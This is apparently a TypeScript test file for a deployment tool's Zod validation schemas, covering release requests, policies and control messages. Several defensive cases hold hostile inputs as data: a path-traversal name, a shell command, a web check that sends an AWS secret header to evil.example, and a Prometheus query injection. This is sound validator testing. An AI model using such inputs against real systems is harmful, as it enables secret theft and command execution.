import type { z } from 'zod';
import { CONTROL_SCHEMAS } from '../../src/domain/messages';
import { orgPolicySchema, servicePolicySchema } from '../../src/domain/policy';
import { releaseRequestSchema } from '../../src/domain/release';
import { describeZodError } from '../../src/domain/zod-errors';

const request = { service: 'checkout', version: '1.4.2', initiator: 'alice' };
const withPolicy = (policy: unknown) => ({ ...request, policy });
const service = { service: 'checkout', trafficCycle: { duration: '24h' } };
const check = { name: 'errors', template: 'error-ratio', max: 0.01 };

interface Case {
  label: string;
  schema: z.ZodType;
  input: unknown;
  /** The field the error must name, as describeZodError writes it. */
  path: string;
  /** Part of that field's message. */
  fragment: string;
}

const cases: Case[] = [
  // release requests
  {
    label: 'request without service',
    schema: releaseRequestSchema,
    input: { version: '1', initiator: 'a' },
    path: 'service',
    fragment: 'expected string, received undefined',
  },
  {
    label: 'upper-case service',
    schema: releaseRequestSchema,
    input: { ...request, service: 'Checkout' },
    path: 'service',
    fragment: 'expected a lower-case service name',
  },
  {
    label: 'service with a space',
    schema: releaseRequestSchema,
    input: { ...request, service: 'check out' },
    path: 'service',
    fragment: 'expected a lower-case service name',
  },
  {
    label: 'path-traversal service',
    schema: releaseRequestSchema,
    input: { ...request, service: '../etc' },
    path: 'service',
    fragment: 'expected a lower-case service name',
  },
  {
    label: 'service of 64 characters',
    schema: releaseRequestSchema,
    input: { ...request, service: 'a'.repeat(64) },
    path: 'service',
    fragment: 'at most 63 characters',
  },
  {
    label: 'empty initiator',
    schema: releaseRequestSchema,
    input: { ...request, initiator: '' },
    path: 'initiator',
    fragment: 'must name a person',
  },
  {
    label: 'blank initiator',
    schema: releaseRequestSchema,
    input: { ...request, initiator: '   ' },
    path: 'initiator',
    fragment: 'must name a person',
  },
  {
    label: 'version with spaces',
    schema: releaseRequestSchema,
    input: { ...request, version: '1.4 beta' },
    path: 'version',
    fragment: 'expected a version such as 1.4.2',
  },
  {
    label: 'version of 200 characters',
    schema: releaseRequestSchema,
    input: { ...request, version: '1'.repeat(200) },
    path: 'version',
    fragment: 'at most 64 characters',
  },
  {
    label: 'unknown top-level field',
    schema: releaseRequestSchema,
    input: { ...request, force: true },
    path: '(input)',
    fragment: 'Unrecognized key: "force"',
  },
  {
    label: 'reason over 2000 characters',
    schema: releaseRequestSchema,
    input: { ...request, reason: 'x'.repeat(2001) },
    path: 'reason',
    fragment: 'at most 2000 characters',
  },
  {
    label: 'policy with unknown field',
    schema: releaseRequestSchema,
    input: withPolicy({ windows: {} }),
    path: 'policy',
    fragment: 'Unrecognized key: "windows"',
  },
  {
    label: 'policy duration "forever"',
    schema: releaseRequestSchema,
    input: withPolicy({ trafficCycle: { duration: 'forever' } }),
    path: 'policy.trafficCycle.duration',
    fragment: 'got "forever"',
  },
  {
    label: 'negative failureLimit',
    schema: releaseRequestSchema,
    input: withPolicy({ canary: { analysis: { failureLimit: -1 } } }),
    path: 'policy.canary.analysis.failureLimit',
    fragment: 'expected number to be >=1',
  },
  {
    label: 'wave percentages not increasing',
    schema: releaseRequestSchema,
    input: withPolicy({ production: { waves: [{ percent: 50 }, { percent: 20 }, { percent: 100 }] } }),
    path: 'policy.production.waves',
    fragment: 'wave percentages must increase',
  },
  {
    label: 'last wave not 100',
    schema: releaseRequestSchema,
    input: withPolicy({ production: { waves: [{ percent: 10 }, { percent: 50 }] } }),
    path: 'policy.production.waves',
    fragment: 'the last wave must reach 100%',
  },
  {
    label: 'wave of 0 percent',
    schema: releaseRequestSchema,
    input: withPolicy({ production: { waves: [{ percent: 0 }, { percent: 100 }] } }),
    path: 'policy.production.waves.0.percent',
    fragment: 'expected number to be >=1',
  },
  {
    label: 'a job check in a release request (it would run a command on the worker)',
    schema: releaseRequestSchema,
    input: withPolicy({
      canary: { analysis: { checks: [{ name: 'x', provider: { job: { command: ['/bin/sh', '-c', 'id'] } } }] } },
    }),
    path: 'policy.canary.analysis.checks.0.provider',
    fragment: 'a release request may add Prometheus checks only',
  },
  {
    label: 'a web check in a release request (it would send the worker’s secrets to a URL)',
    schema: releaseRequestSchema,
    input: withPolicy({
      staging: {
        smokeChecks: [
          {
            name: 'x',
            provider: { web: { url: 'https://evil.example/', headers: { a: '${AWS_SECRET}' }, jsonPath: '$.v' } },
            max: 1,
          },
        ],
      },
    }),
    path: 'policy.staging.smokeChecks.0.provider',
    fragment: 'a release request may add Prometheus checks only',
  },
  {
    label: 'hooks in a release request',
    schema: releaseRequestSchema,
    input: withPolicy({ hooks: [{ name: 'x', at: 'before-staging', exec: { command: ['id'] } }] }),
    path: 'policy',
    fragment: 'Unrecognized key: "hooks"',
  },
  {
    label: 'a hook with neither exec nor http',
    schema: servicePolicySchema,
    input: { ...service, hooks: [{ name: 'smoke', at: 'after-deploy' }] },
    path: 'hooks.0.exec',
    fragment: 'a hook runs exactly one of "exec" or "http"',
  },
  {
    label: 'a hook at an unknown moment',
    schema: servicePolicySchema,
    input: { ...service, hooks: [{ name: 'smoke', at: 'sometime', exec: { command: ['./smoke'] } }] },
    path: 'hooks.0.at',
    fragment: 'before-staging',
  },
  {
    label: 'tracks on a hook that is not after-deploy',
    schema: servicePolicySchema,
    input: { ...service, hooks: [{ name: 'x', at: 'before-canary', tracks: ['canary'], exec: { command: ['./x'] } }] },
    path: 'hooks.0.tracks',
    fragment: 'only an after-deploy hook takes "tracks"',
  },
  {
    label: 'a hook calling plain http off this machine',
    schema: servicePolicySchema,
    input: { ...service, hooks: [{ name: 'x', at: 'before-canary', http: { url: 'http://cab.example.com/' } }] },
    path: 'hooks.0.http.url',
    fragment: 'expected an https URL',
  },
  {
    label: 'credentials in a hook URL',
    schema: servicePolicySchema,
    input: { ...service, hooks: [{ name: 'x', at: 'before-canary', http: { url: 'https://u:p@cab.example.com/' } }] },
    path: 'hooks.0.http.url',
    fragment: 'credentials do not belong in the URL',
  },
  {
    label: 'a hook command that is empty',
    schema: servicePolicySchema,
    input: { ...service, hooks: [{ name: 'x', at: 'before-canary', exec: { command: [] } }] },
    path: 'hooks.0.exec.command',
    fragment: 'expected the executable and its arguments',
  },
  {
    label: 'a hook timeout past the activity budget',
    schema: servicePolicySchema,
    input: { ...service, hooks: [{ name: 'x', at: 'before-canary', exec: { command: ['./x'], timeout: '1h' } }] },
    path: 'hooks.0.exec.timeout',
    fragment: 'expected between 1s and 9m',
  },
  {
    label: 'two hooks of one name',
    schema: servicePolicySchema,
    input: {
      ...service,
      hooks: [
        { name: 'x', at: 'before-canary', exec: { command: ['./x'] } },
        { name: 'x', at: 'after-promotion', exec: { command: ['./y'] } },
      ],
    },
    path: 'hooks.1.name',
    fragment: 'duplicate hook name "x"',
  },
  {
    label: 'check without template or query',
    schema: releaseRequestSchema,
    input: withPolicy({ canary: { analysis: { checks: [{ name: 'x', max: 1 }] } } }),
    path: 'policy.canary.analysis.checks.0.template',
    fragment: 'a check needs a "template", a "query" or a "provider"',
  },
  {
    label: 'check without max, min or baseline',
    schema: releaseRequestSchema,
    input: withPolicy({ canary: { analysis: { checks: [{ name: 'x', template: 'error-ratio' }] } } }),
    path: 'policy.canary.analysis.checks.0.max',
    fragment: 'a check needs "max", "min" or "baseline"',
  },
  {
    label: 'check with unknown template',
    schema: releaseRequestSchema,
    input: withPolicy({ staging: { smokeChecks: [{ ...check, template: 'cpu' }] } }),
    path: 'policy.staging.smokeChecks.0.template',
    fragment: 'Invalid option',
  },
  {
    label: 'peak window "25:00"',
    schema: releaseRequestSchema,
    input: withPolicy({ trafficCycle: { peakWindows: [{ start: '25:00', end: '13:00' }] } }),
    path: 'policy.trafficCycle.peakWindows.0.start',
    fragment: 'expected a UTC time of day as HH:MM',
  },
  // policies
  {
    label: 'service policy without service',
    schema: servicePolicySchema,
    input: { trafficCycle: { duration: '1h' } },
    path: 'service',
    fragment: 'expected string, received undefined',
  },
  {
    label: 'service policy without a cycle duration',
    schema: servicePolicySchema,
    input: { service: 'checkout', trafficCycle: {} },
    path: 'trafficCycle.duration',
    fragment: 'Invalid input',
  },
  {
    label: 'freeze with to before from',
    schema: servicePolicySchema,
    input: {
      ...service,
      windows: { freezes: [{ from: '2026-12-27T00:00:00Z', to: '2026-12-20T00:00:00Z', reason: 'year end' }] },
    },
    path: 'windows.freezes.0.to',
    fragment: 'must be after "from"',
  },
  {
    label: 'freeze with a date but no time',
    schema: servicePolicySchema,
    input: { ...service, windows: { freezes: [{ from: '2026-12-20', to: '2026-12-27T00:00:00Z', reason: 'r' }] } },
    path: 'windows.freezes.0.from',
    fragment: 'Invalid ISO datetime',
  },
  {
    label: 'window with unknown day',
    schema: servicePolicySchema,
    input: { ...service, windows: { allowed: [{ days: ['monday'], start: '09:00', end: '17:00' }] } },
    path: 'windows.allowed.0.days.0',
    fragment: 'Invalid option',
  },
  {
    label: 'window that starts where it ends',
    schema: servicePolicySchema,
    input: { ...service, windows: { allowed: [{ start: '09:00', end: '09:00' }] } },
    path: 'windows.allowed.0.end',
    fragment: 'start and end must differ',
  },
  {
    label: 'service policy without waves',
    schema: servicePolicySchema,
    input: { ...service, production: { waves: [] } },
    path: 'production.waves',
    fragment: 'expected array to have >=1 items',
  },
  {
    label: 'service policy with equal wave percentages',
    schema: servicePolicySchema,
    input: { ...service, production: { waves: [{ percent: 50 }, { percent: 50 }, { percent: 100 }] } },
    path: 'production.waves',
    fragment: 'wave percentages must increase',
  },
  {
    label: 'empty approver',
    schema: servicePolicySchema,
    input: { ...service, approvals: { approvers: [''] } },
    path: 'approvals.approvers.0',
    fragment: 'must name a person',
  },
  {
    label: 'baseline tolerance above 10',
    schema: servicePolicySchema,
    input: { ...service, canary: { analysis: { checks: [{ ...check, baseline: { tolerance: 11 } }] } } },
    path: 'canary.analysis.checks.0.baseline.tolerance',
    fragment: 'expected number to be <=10',
  },
  {
    label: 'org with unknown field',
    schema: orgPolicySchema,
    input: { minimum: {} },
    path: '(input)',
    fragment: 'Unrecognized key: "minimum"',
  },
  {
    label: 'org maxFailureLimit 0',
    schema: orgPolicySchema,
    input: { minimums: { maxFailureLimit: 0 } },
    path: 'minimums.maxFailureLimit',
    fragment: 'expected number to be >=1',
  },
  {
    label: 'org minDuration "1 week"',
    schema: orgPolicySchema,
    input: { trafficCycle: { minDuration: '1 week' } },
    path: 'trafficCycle.minDuration',
    fragment: 'got "1 week"',
  },
  {
    label: 'org requirePeakWindow "yes"',
    schema: orgPolicySchema,
    input: { trafficCycle: { requirePeakWindow: 'yes' } },
    path: 'trafficCycle.requirePeakWindow',
    fragment: 'expected boolean',
  },
  {
    label: 'org metric name that would rewrite a query',
    schema: orgPolicySchema,
    input: { metrics: { requests: 'up} or vector(1) #' } },
    path: 'metrics.requests',
    fragment: 'expected a Prometheus metric name',
  },
  {
    label: 'org label name reserved by Prometheus',
    schema: orgPolicySchema,
    input: { metrics: { labels: { service: '__name__' } } },
    path: 'metrics.labels.service',
    fragment: 'reserved by Prometheus',
  },
  // message payloads
  {
    label: 'abort without reason',
    schema: CONTROL_SCHEMAS.abort,
    input: { by: 'bob' },
    path: 'reason',
    fragment: 'expected string, received undefined',
  },
  {
    label: 'approve with empty by',
    schema: CONTROL_SCHEMAS.approve,
    input: { by: '' },
    path: 'by',
    fragment: 'must name a person',
  },
  {
    label: 'promote with empty reason',
    schema: CONTROL_SCHEMAS.promote,
    input: { by: 'bob', reason: '  ' },
    path: 'reason',
    fragment: 'a reason is required',
  },
  {
    label: 'pause with extra field',
    schema: CONTROL_SCHEMAS.pause,
    input: { by: 'bob', reason: 'r', minutes: 5 },
    path: '(input)',
    fragment: 'Unrecognized key: "minutes"',
  },
  {
    label: 'resume with by over 128 characters',
    schema: CONTROL_SCHEMAS.resume,
    input: { by: 'b'.repeat(129) },
    path: 'by',
    fragment: 'at most 128 characters',
  },
  {
    label: 'approve with a number for by',
    schema: CONTROL_SCHEMAS.approve,
    input: { by: 42 },
    path: 'by',
    fragment: 'expected string, received number',
  },
  {
    label: 'abort as a bare string',
    schema: CONTROL_SCHEMAS.abort,
    input: 'stop',
    path: '(input)',
    fragment: 'expected object, received string',
  },
];

describe('malformed input is refused, naming the field', () => {
  it('has a table of at least 20 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(20);
  });

  it.each(cases)('$label → $path', ({ schema, input, path, fragment }) => {
    const result = schema.safeParse(input);
    expect(result.success).toBe(false);
    const described = describeZodError(result.error!);
    const onField = described.split('; ').filter((part) => part.startsWith(`${path}: `));
    expect(onField.join('; ')).toContain(fragment);
  });
});

describe('describeZodError', () => {
  it('prefixes a root and joins at most ten issues', () => {
    const result = servicePolicySchema.safeParse({ service: 'X', trafficCycle: { duration: 'x' } });
    expect(describeZodError(result.error!, 'policy')).toBe(
      'policy.service: expected a lower-case name: letters, digits, "-", "_" or ".", at most 63 characters; ' +
        'policy.trafficCycle.duration: expected a duration such as "90s", "15m", "24h" or "7d", got "x"',
    );
    const many = releaseRequestSchema.safeParse(
      withPolicy({ trafficCycle: { peakWindows: Array.from({ length: 10 }, () => ({ start: '99:99', end: 'x' })) } }),
    );
    expect(describeZodError(many.error!).split('; ')).toHaveLength(10);
  });
});

describe('valid input parses, with defaults applied', () => {
  it('a minimal release request', () => {
    expect(releaseRequestSchema.parse({ ...request, initiator: '  alice  ' })).toEqual(request);
  });

  it('a release request with a policy override, durations in milliseconds', () => {
    const parsed = releaseRequestSchema.parse(
      withPolicy({
        trafficCycle: { duration: '48h', peakWindows: [{ days: ['fri'], start: '22:00', end: '02:00' }] },
        canary: { analysis: { checks: [{ ...check, baseline: {} }], failureLimit: 1 } },
        production: { waves: [{ percent: 10, bake: '1h' }, { percent: 100 }] },
      }),
    );
    expect(parsed.policy?.trafficCycle?.duration).toBe(172_800_000);
    expect(parsed.policy?.canary?.analysis?.checks?.[0]).toEqual({
      ...check,
      critical: false,
      baseline: { direction: 'increase', tolerance: 0.1, minSamples: 5 },
    });
    expect(parsed.policy?.production?.waves).toEqual([
      { percent: 10, bake: 3_600_000 },
      { percent: 100, bake: 0 },
    ]);
  });

  it('a minimal service policy: one 100% wave, production approval on, everything else off or empty', () => {
    expect(servicePolicySchema.parse(service)).toEqual({
      service: 'checkout',
      trafficCycle: { duration: 86_400_000, minCanaryRequests: 0, peakWindows: [] },
      staging: { smokeChecks: [], bake: 0 },
      canary: {
        poolSize: 1,
        approval: false,
        analysis: { interval: 60_000, checks: [], failureLimit: 3, inconclusiveLimit: 3 },
      },
      production: { approval: true, waves: [{ percent: 100, bake: 0 }] },
      approvals: { fourEyes: false, signers: [], machines: [], signing: { require: [], maxSkew: 300_000 } },
      windows: { allowed: [], freezes: [] },
      hooks: [],
      alerts: { rules: [] },
    });
  });

  it('an empty org policy', () => {
    expect(orgPolicySchema.parse({})).toEqual({
      trafficCycle: { minDuration: 0, minCanaryRequests: 0, requirePeakWindow: false },
      minimums: {
        analysisChecks: 1,
        maxAnalysisInterval: 900_000,
        maxFailureLimit: 10,
        maxInconclusiveLimit: 10,
        productionApproval: true,
        fourEyes: false,
        criticalCanaryAlertsRollBack: false,
        productionWatch: 0,
        requireSignedApprovals: false,
      },
      signers: [],
      metrics: {
        requests: 'tollgate_demo_http_requests_total',
        requestDuration: 'tollgate_demo_http_request_duration_seconds',
        labels: { service: 'service', version: 'version', track: 'track', statusCode: 'code' },
      },
    });
  });

  it('message payloads, trimmed', () => {
    expect(CONTROL_SCHEMAS.approve.parse({ by: ' bob ', comment: 'lgtm' })).toEqual({ by: 'bob', comment: 'lgtm' });
    expect(CONTROL_SCHEMAS.abort.parse({ by: 'bob', reason: ' 5xx spike ' })).toEqual({
      by: 'bob',
      reason: '5xx spike',
    });
    expect(CONTROL_SCHEMAS.resume.parse({ by: 'b'.repeat(128) }).by).toHaveLength(128);
  });
});
